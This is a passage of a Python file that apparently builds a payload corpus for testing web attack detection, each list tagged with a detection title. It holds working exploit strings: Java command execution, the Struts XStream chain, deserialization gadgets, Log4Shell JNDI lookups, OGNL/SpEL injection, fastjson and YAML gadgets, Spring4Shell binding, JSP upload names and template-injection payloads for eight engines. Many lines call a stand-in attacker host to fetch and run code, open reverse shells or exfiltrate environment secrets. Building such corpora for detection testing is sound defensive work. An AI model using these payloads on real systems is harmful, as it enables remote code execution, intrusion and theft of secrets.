    + base64.b64encode(b"<?php system('id');?>").decode(),
    "data://text/plain;base64," + base64.b64encode(b"<?php system(\"ls\");").decode(),
]

# --- java --------------------------------------------------------------------------------------------------------
# "Remote Command Execution: Suspicious Java class detected" / "Suspicious Java class detected": Runtime,
# ProcessBuilder, ClassLoader, ScriptEngineManager, System, reflection, JNDI. Targets: Java expression sinks
# (Nashorn, BeanShell, Groovy scripts, reflection behind a "formula" or "script" field)
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "java . lang . Runtime . getRuntime ( ) . exec ( \"id\" )",
    "java./**/lang./**/Runtime.getRuntime().exec(\"uname -a\")",
    "java.lang.Runtime.getRuntime().halt(0)",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"groovy\").eval(\"'id'.execute().text\")",
    "Java.type(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "java.lang.System.exit(0)",
    "java.lang.System.getenv()",
    "java.lang.Thread.sleep(15000)",
    "new java.util.Scanner(new java.io.File(\"/etc/passwd\")).useDelimiter(\"\\\\Z\").next()",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "org.apache.commons.io.FileUtils.readFileToString(new java.io.File(\"/etc/shadow\"))",
    "new javax.naming.InitialContext().lookup(\"ldap://attacker.example:1389/o=a\")",
    "new bsh.Interpreter().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "\"id\".execute().text",
    "java.lang.Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
]
# "Remote Command Execution: Java process spawn (CVE-2017-9805)": the Struts 2 REST XStream ImageIO chain and
# other ProcessBuilder / Runtime.exec forms. Targets: Struts 2 REST plugin (XStream), Java reflection, JSP
XSTREAM_IMAGEIO = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
    "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding."
    "xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
    "NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi."
    "FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$Empty"
    "Iterator\"/><next class=\"java.lang.ProcessBuilder\"><command>{cmd}</command><redirectErrorStream>false"
    "</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>"
    "java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next "
    "class=\"string\">foo</next></serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$Null"
    "InputStream\"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false"
    "</closed></is><consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen>"
    "</value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference="
    "\"../jdk.nashorn.internal.objects.NativeString\"/></entry><entry><jdk.nashorn.internal.objects.NativeString "
    "reference=\"../../entry/jdk.nashorn.internal.objects.NativeString\"/><jdk.nashorn.internal.objects."
    "NativeString reference=\"../../entry/jdk.nashorn.internal.objects.NativeString\"/></entry></map>")
JAVA_SPAWN: list[Entry] = [
    (XSTREAM_IMAGEIO.replace("{cmd}", "<string>touch</string><string>/tmp/pwned</string>"), "xml", "rs-xml"),
    (XSTREAM_IMAGEIO.replace("{cmd}", "<string>/bin/sh</string><string>-c</string><string>id</string>"),
     "xml", "rs-xml"),
    (XSTREAM_IMAGEIO.replace("{cmd}", "<string>cmd.exe</string><string>/c</string><string>calc</string>"),
     "xml", "rs-xml"),
    "new ProcessBuilder(new String[]{\"bash\",\"-c\",\"id\"}).start()",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"curl attacker.example|sh\"})",
    "Runtime.getRuntime().exec(\"bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}\")",
    "Runtime\n.getRuntime()\n.exec(\"id\")",
    "ProcessBuilder pb = new ProcessBuilder(\"nc\",\"203.0.113.7\",\"4444\",\"-e\",\"/bin/sh\"); pb.start();",
    "new ProcessBuilder(\"cmd\",\"/c\",\"calc.exe\").start()",
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\",String[].class,java.util.Map.class,"
    "String.class,ProcessBuilder.Redirect[].class,boolean.class)",
    "Class.forName(\"java.lang.UNIXProcess\").getDeclaredConstructors()[0]",
    "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(\"\".getClass()"
    ".forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
    ("<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void "
     "index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>", "xml", "rs-xml"),
    ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
     "<action>start</action></handler></dynamic-proxy></sorted-set>", "xml", "rs-xml"),
]
# "Magic bytes Detected, probable java serialization in use" (raw AC ED 00 05, percent-encoded on the wire, and
# as hex) and "Magic bytes Detected Base64 Encoded, probable java serialization in use" (rO0AB, gzip H4sI).
# Target: ObjectInputStream.readObject on a parameter, cookie, header or ViewState
JAVA_SERIALIZATION: list[Entry] = [
    (_latin(SER_STRING), "query", "rs-form"),
    (_latin(SER_HASHMAP), "form", "rs-query"),
    (_latin(SER_CMD_ARRAY), "cookie", "rs-raw-body"),
    (_latin(SER_LIST), "query", "rs-cookie"),
    (_latin(SER_INT), "json", "rs-json"),
    SER_STRING.hex(),
    SER_HASHMAP.hex().upper(),
    SER_CMD_ARRAY.hex(),
    _b64(SER_STRING),
    _b64(SER_HASHMAP),
    _b64(SER_CMD_ARRAY),
    _b64(SER_LIST),
    base64.urlsafe_b64encode(SER_INT).decode(),
    _gzb64(SER_HASHMAP),
    ("javax.faces.ViewState=" + urllib.parse.quote(_b64(SER_LIST), safe=""), "raw-form", "rs-raw-body"),
    ("rememberMe=" + _b64(SER_HASHMAP), "cookie-raw", "rs-cookie-raw"),
]
# "Remote Command Execution: Java serialization (CVE-2015-4852)" and "Java serialization gadget" titles:
# commons-collections chains (CommonsCollections1 and 6), JDK7u21 (TemplatesImpl), and the Spring, Groovy, C3P0,
# ROME and Hibernate gadgets as their text carriers take them. Targets: WebLogic / JBoss / Jenkins style
# readObject endpoints (binary), Jackson default typing and XStream (text)
C3P0_HEX = "HexAsciiSerializedMap:" + CC6_ID.hex() + ";"
JAVA_GADGETS: list[Entry] = [
    (_latin(CC6_ID), "form", "rs-raw-body"),
    (_latin(CC1_TOUCH), "query", "rs-form"),
    (_latin(JDK7U21), "form", "rs-query"),
    _b64(CC6_CURL),
    _b64(CC6_B64CMD),
    _b64(CC1_WIN),
    _b64(JDK7U21),
    CC6_NSLOOKUP.hex(),
    _gzb64(CC6_ID),
    base64.urlsafe_b64encode(CC1_TOUCH).decode(),
    ("[\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",{\"userOverridesAsString\":\"" + C3P0_HEX
     + "\"}]", "json-body", "rs-json-body"),
    ("[\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",{\"jndiName\":\"ldap://attacker.example:1389/Exploit\","
     "\"loginTimeout\":0}]", "json-body", "rs-json-body"),
    ("[\"org.springframework.context.support.ClassPathXmlApplicationContext\","
     "\"http://attacker.example/spel.xml\"]", "json-body", "rs-json-body"),
    ("{\"@class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\","
     "\"configLocation\":\"http://attacker.example/beans.xml\"}", "json-body", "rs-json-body"),
    ("[\"org.hibernate.jmx.StatisticsService\",{\"sessionFactoryJNDIName\":\"ldap://attacker.example:1389/obj\"}]",
     "json-body", "rs-json-body"),
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string><org.codehaus.groovy."
     "runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference=\"../../../..\"/><owner class=\""
     "java.lang.ProcessBuilder\"><command><string>id</string></command><redirectErrorStream>false"
     "</redirectErrorStream></owner><resolveStrategy>0</resolveStrategy><directive>0</directive><parameterTypes/>"
     "<maximumNumberOfParameters>0</maximumNumberOfParameters><method>start</method></org.codehaus.groovy.runtime."
     "MethodClosure></entry></expandoProperties></groovy.util.Expando><int>1</int></entry></map>", "xml", "rs-xml"),
    ("<map><entry><com.rometools.rome.feed.impl.EqualsBean><beanClass>com.rometools.rome.feed.impl.ToStringBean"
     "</beanClass><obj class=\"com.rometools.rome.feed.impl.ToStringBean\"><beanClass>com.sun.rowset.JdbcRowSetImpl"
     "</beanClass><obj class=\"com.sun.rowset.JdbcRowSetImpl\"><dataSource>ldap://attacker.example:1389/rome"
     "</dataSource><autoCommit>true</autoCommit></obj></obj></com.rometools.rome.feed.impl.EqualsBean><string>x"
     "</string></entry></map>", "xml", "rs-xml"),
]
# "Potential Remote Command Execution: Log4j / Log4shell": ${jndi:...} with nested lookups, case and default
# tricks and exfiltration lookups. Target: Log4j 2 < 2.15 logging headers and parameters
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${jndi:ldaps://attacker.example/a}",
    "${jndi:rmi://203.0.113.7:1099/Exploit}",
    "${jndi:dns://attacker.example/probe}",
    "${jndi:iiop://attacker.example:1050/a}",
    "${${lower:jndi}:${lower:ldap}://attacker.example/x}",
    "${${upper:j}ndi:ldap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/x}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/x}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/x}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/poc}",
    "${${::-j}ndi:rmi://attacker.example/ass}",
    "${jndi:ldap://${env:USER}.attacker.example/a}",
    "${jndi:dns://${sys:java.version}.attacker.example}",
    "${jndi:ldap://${hostName}.attacker.example/a}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    "${jndi:ldap://attacker.example:1389/Basic/Command/Base64/aWQ=}",
    ("{\"name\":\"\\u0024\\u007bjndi:ldap://attacker.example/a}\"}", "json-body", "rs-json-body"),
    ("${jndi:ldap://attacker.example/ua}", "header:X-Forwarded-For", "rs-header:X-Api-Version"),
]
# Expression language injection ("Suspicious Java method detected" and the RCE class titles): OGNL (Struts 2,
# Confluence), SpEL (Spring, Spring Cloud Function), MVEL, JEXL, JSP / Jakarta EL. Target: the named engine
OGNL_045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess="
    "#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container."
    "getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
    "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang."
    "ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache."
    "commons.io.IOUtils@toString(#process.getInputStream()))}")
EXPRESSION_LANGUAGE: list[Entry] = [
    (OGNL_045, "header:Content-Type", "rs-header:Content-Type"),
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).redirectErrorStream(true).start()}",
    "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println(@java.lang.System"
    "@getenv())}",
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
     "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
     "path", "rs-path"),
    ("queryString=\\u0027%2b{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance()"
     ".getEngineByName(\\u0027JavaScript\\u0027).eval(\\u0027java.lang.Runtime.getRuntime().exec(\\u0022id"
     "\\u0022)\\u0027)}%2b\\u0027", "raw-form", "rs-raw-body"),
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}",
    "T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())",
    "T (java.lang.Runtime) . getRuntime() . exec ('id')",
    "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "Runtime.getRuntime().exec(\"id\");",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
    "${Runtime.getRuntime().exec(\"id\")}",
    "${pageContext.request.getSession().getServletContext().getRealPath(\"/\")}",
    "${facesContext.externalContext.redirect(\"http://attacker.example/\")}",
    "#{request.getClass().getClassLoader()}",
    "${applicationScope}",
]
# Polymorphic deserialization (the "Java serialization" and suspicious class titles seen in JSON, XML and YAML):
# fastjson @type and its autoType bypasses, Jackson default typing, XMLDecoder (WebLogic wls-wsat), XStream,
# SnakeYAML. Target: the named library behind a JSON, XML or YAML endpoint
TEMPLATES_B64 = _b64(TRANSLET)
POLYMORPHIC: list[Entry] = [
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Exploit\","
     "\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":\"com.sun."
     "rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}}",
     "json-body", "rs-json-body"),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://attacker.example/a\","
     "\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"ldap://attacker.example/b\","
     "\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"ldap://attacker.example/c\","
     "\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"\\u0040\\u0074\\u0079\\u0070\\u0065\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":"
     "\"ldap://attacker.example/d\",\"autoCommit\":true}", "json-body", "rs-json-body"),
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\""
     + TEMPLATES_B64 + "\"],\"_name\":\"a.b\",\"_tfactory\":{},\"_outputProperties\":{},\"_version\":\"1.0\","
     "\"allowedProtocols\":\"all\"}", "json-body", "rs-json-body"),
    ("{\"@type\":\"java.net.InetSocketAddress\"{\"address\":,\"val\":\"probe.attacker.example\"}}",
     "json-body", "rs-json-body"),
    ("{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"org.eclipse.core.internal.localstore.SafeFileOutputStream\","
     "\"tempPath\":\"/tmp/x\",\"targetPath\":\"/usr/local/tomcat/webapps/ROOT/s.jsp\"}", "json-body", "rs-json-body"),
    ("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\","
     "\"autoCommit\":true}]", "json-body", "rs-json-body"),
    ("[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://attacker.example:1389/Exploit\"}]",
     "json-body", "rs-json-body"),
    ("{\"id\":1,\"obj\":[\"org.apache.xbean.propertyeditor.JndiConverter\",{\"asText\":"
     "\"ldap://attacker.example:1389/x\"}]}", "json-body", "rs-json-body"),
    ("[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://attacker.example:1389/Exploit\"}]",
     "json-body", "rs-json-body"),
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object "
     "class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></object>"
     "</java>", "xml", "rs-xml"),
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:"
     "WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><object class=\"java.lang."
     "ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string>"
     "</void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array><void "
     "method=\"start\"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>",
     "xml", "rs-xml"),
    ("<linked-hash-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c"
     "</string><string>curl attacker.example|sh</string></command></target><action>start</action></handler>"
     "</dynamic-proxy></linked-hash-set>", "xml", "rs-xml"),
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://attacker.example/yaml-payload.jar\"]]]]", "yaml-body", "rs-yaml-body"),
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://attacker.example:1389/Exploit\", autoCommit: true}",
     "yaml-body", "rs-yaml-body"),
]
# "Malicious class-loading payload": Spring4Shell and Struts 1 / Spring class.classLoader binding, URLClassLoader
# and defineClass. Targets: Spring MVC data binding on Tomcat, Struts 1, SpEL / Java code sinks
S4S = "class.module.classLoader.resources.context.parent.pipeline.first."
CLASS_LOADING: list[Entry] = [
    (S4S + "pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream"
     "%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%25"
     "%7Bsuffix%7Di", "raw-form", "rs-raw-body"),
    (S4S + "suffix=.jsp", "raw-form", "rs-param-name"),
    (S4S + "directory=webapps/ROOT", "param-name", "rs-raw-body"),
    (S4S + "prefix=tomcatwar&" + S4S + "fileDateFormat=", "raw-form", "rs-raw-body"),
    ("class.module.classLoader.URLs[0]=0", "param-name", "rs-param-name"),
    ("class.module.classLoader.resources.context.configFile=http://attacker.example/ctx.xml", "raw-form",
     "rs-param-name"),
    ("class.classLoader.resources.dirContext.docBase=/", "param-name", "rs-raw-body"),
    ("class['classLoader'].resources.dirContext.docBase=//attacker.example/share", "param-name", "rs-param-name"),
    ("class.classLoader.URLs[0]=jar:http://attacker.example/spring-exploit.jar!/", "raw-form", "rs-raw-body"),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL(\"http://attacker.example/e.jar\")})"
    ".loadClass(\"E\").getConstructor().newInstance()",
    "Class.forName(\"Exploit\", true, new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "\"http://attacker.example/\")}))",
    "new javax.script.ScriptEngineManager(new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "\"http://attacker.example/a.jar\")})).getEngineByName(\"x\")",
    "this.class.classLoader.addURL(new URL(\"http://attacker.example/g.jar\"));Class.forName(\"Exploit\")"
    ".newInstance()",
    "#{T(org.springframework.cglib.core.ReflectUtils).defineClass('Pwn',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + TEMPLATES_B64 + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()}",
]
# JSP / JSPX upload (the Java counterpart of the script-upload title): executable Java server pages as upload
# names, and the Tomcat PUT of CVE-2017-12615. Targets: Tomcat, Jetty, WebLogic, Resin
JSP_BODY = "<% out.println(\"up:\" + System.getProperty(\"user.name\")); %>"
JSP_UPLOAD: list[Entry] = [
    ("shell.jsp", "multipart-filename", "rs-multipart-filename"),
    ("cmd.jspx", "multipart-filename", "rs-multipart-filename"),
    ("backdoor.jsp;.jpg", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp%00.png", "multipart-filename", "rs-multipart-filename"),
    ("INDEX.JSP", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp.", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("../../webapps/ROOT/s.jsp", "multipart-filename", "rs-multipart-filename"),
    ("header.jspf", "multipart-filename", "rs-multipart-filename"),
    ("x.jsv", "multipart-filename", "rs-multipart-filename"),
    ("exploit.war", "multipart-filename", "rs-multipart-filename"),
    ("filename*=UTF-8''sh%65ll.jsp", "multipart-filename", "rs-multipart-filename"),
    ("/upload/cmd.jsp/", "put", "rs-put"),
    ("/cmd.jsp%20", "put", "rs-put"),
    ("/poc.jsp::$DATA", "put", "rs-put"),
]

# --- ssti --------------------------------------------------------------------------------------------------------
# Server-side template injection, one list per engine (the SSTI titles and the code-injection titles the payloads
# carry). Target: Jinja2 (Flask)
JINJA2: list[Entry] = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('whoami').read() }}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}",
]
# Target: Twig (Symfony, Craft, Grav)
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{['id','']|sort('system')}}",
    "{% set a = ['uname -a'] %}{{ a|filter('exec')|first }}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
]
# Target: Apache FreeMarker
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('uname -a')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)><#assign "
    "ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "<#assign x=7*7>${x}",
    "<#list .data_model?keys as k>${k} </#list>",
    "<#include \"../../../../etc/passwd\">",
]
# Target: Apache Velocity (and Confluence's widget macro template path)
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($ex=$class.inspect(\"java.lang.Runtime\").type"
    ".getRuntime().exec(\"whoami\"))$ex.waitFor()",
    "#foreach($i in [1..9999999])#foreach($j in [1..9999999])x#end#end",
    "#include(\"/etc/passwd\")",
    "#parse(\"../../WEB-INF/web.xml\")",
    "#{set}($a=7*7)$a",
    ("{\"contentId\":\"1\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.viddler.com/v/23464dc5\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":"
     "\"file:///etc/passwd\"}}}", "json-body", "rs-json-body"),
]
# Target: Thymeleaf (Spring view names, inlined expressions)
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "[[${T(java.lang.System).getenv()}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('whoami')}\"></p>",
    ("/doc/__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/th\")}__::.x", "path", "rs-path"),
    "[[${@environment.getProperty('spring.datasource.password')}]]",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
]
# Target: ERB (Ruby on Rails)
ERB: list[Entry] = [
    "<%= system(\"id\") %>",
    "<%= `ls -la /` %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%=\nsystem('whoami')\n%>",
    "<%= 7 * 7 %>",
]
# Target: Smarty (PHP)
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{$smarty.version}",
    "{if system('id')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{fetch file=\"/etc/passwd\"}",
    "{include file=\"file:/etc/passwd\"}",
]
# Target: Handlebars (Node.js), the constructor-chain payload and context dumps
HB_CHAIN = (
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
    "\"return {code}\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}"
    "{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    HB_CHAIN.replace("{code}", "require('child_process').execSync('ls -la');"),
    HB_CHAIN.replace("{code}", "process.mainModule.require('child_process').execSync('id');"),
    HB_CHAIN.replace("{code}", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8');"),
    HB_CHAIN.replace("{code}", "process.mainModule.require('child_process').exec('curl attacker.example/h|sh');"),
    HB_CHAIN.replace("{code}", "process.env;"),
    HB_CHAIN.replace("}}{{", "}}\n  {{").replace("{code}", "global.process.mainModule.constructor._load("
                                                         "'child_process').execSync('whoami');"),
